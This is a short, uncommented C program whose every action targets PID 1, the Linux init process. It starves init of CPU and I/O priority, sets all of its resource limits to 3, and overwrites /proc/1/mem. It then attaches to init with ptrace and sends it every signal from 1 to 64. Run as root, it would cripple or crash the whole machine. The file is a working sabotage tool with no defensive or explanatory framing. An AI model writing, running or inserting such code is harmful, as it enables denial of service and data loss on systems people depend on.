#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

static void put(const char *path, const char *text) {
  int file = open(path, O_WRONLY);
  if (file < 0) return;
  if (write(file, text, 2) < 0) text = 0;
  close(file);
}

int main(void) {
  cpu_set_t one;
  struct rlimit least = {3, 3};
  struct sched_param none = {0};
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  setpriority(PRIO_PROCESS, 1, 19);
  setpriority(PRIO_PGRP, getpgid(1), 19);
  setpriority(PRIO_USER, getuid(), 19);
  syscall(SYS_ioprio_set, 1, 1, 3 << 13);
  syscall(SYS_ioprio_set, 3, getuid(), 3 << 13);
  sched_setaffinity(1, sizeof one, &one);
  sched_setscheduler(1, SCHED_IDLE, &none);
  for (int limit = 0; limit < 16; limit++) prlimit(1, (enum __rlimit_resource)limit, &least, 0);
  put("/proc/1/oom_score_adj", "99");
  put("/proc/1/autogroup", "19");
  put("/proc/1/timerslack_ns", "99");
  put("/proc/1/mem", "xx");
  ptrace(PTRACE_SEIZE, 1, 0, 0);
  for (int number = 1; number < 65; number++) kill(1, number);
  return 0;
}
